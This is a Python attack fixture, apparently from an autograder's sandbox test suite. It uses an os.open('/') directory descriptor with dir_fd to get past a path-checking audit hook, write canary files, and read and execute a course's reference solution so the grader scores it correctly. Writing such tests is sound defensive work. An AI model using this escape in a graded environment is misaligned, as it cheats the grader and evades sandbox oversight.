"""Attack `dirfd_escape`: the hw2_affine reference with ComputeGradients replaced by the attack.

Pure Python: os.open("/") gives a directory descriptor the audit hook allows;
paths relative to it (dir_fd=) are then checked by the hook as if they were
relative to the working folder. Reads the reference and writes the canaries
that way.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]


def use_reference(source, L, x, z):
    """Run the stolen file's ComputeGradients: the points the attack wants."""
    namespace = {}
    exec(compile(source, "stolen", "exec"), namespace)
    return namespace["ComputeGradients"](L, x, z)


def ComputeGradients(L, x, z):
    try:
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    except OSError as exc:
        say("open /", exc)
        return wrong_answer(L)
    for path in CANARIES:
        try:
            fd = os.open(path.lstrip("/"), os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644, dir_fd=root)
            os.write(fd, MARK)
            os.close(fd)
            say("WROTE", path)
        except OSError as exc:
            say("write", path, type(exc).__name__)
    for path in ("@COURSE@/reference/hw2_affine/solution.py", "@CHECKOUT@/reference/hw2_affine/solution.py"):
        try:
            fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
            source = os.read(fd, 1 << 20)
            os.close(fd)
            say("READ", path)
            return use_reference(source, L, x, z)
        except OSError as exc:
            say("read", path, type(exc).__name__)
    return wrong_answer(L)
